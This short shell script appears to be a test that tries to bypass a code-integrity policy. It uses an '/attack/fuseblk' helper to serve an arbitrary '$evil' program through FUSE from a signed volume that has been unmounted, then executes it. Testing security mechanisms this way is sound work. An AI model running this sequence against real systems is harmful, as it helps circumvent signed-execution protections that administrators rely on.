# shellcheck shell=sh disable=SC2154
#
# fuseblk - let FUSE serve a program from a signed volume that root has unmounted
#
# SPDX-License-Identifier: MIT

umount /volume
# For the test of what it says.
ipe-status -v | grep ' free-volumes ' >&2
: >/tmp/served
/attack/fuseblk /dev/mapper/volume "$evil" /tmp/served && /tmp/served
umount /tmp/served
mount -t ext4 -o ro /dev/mapper/volume /volume
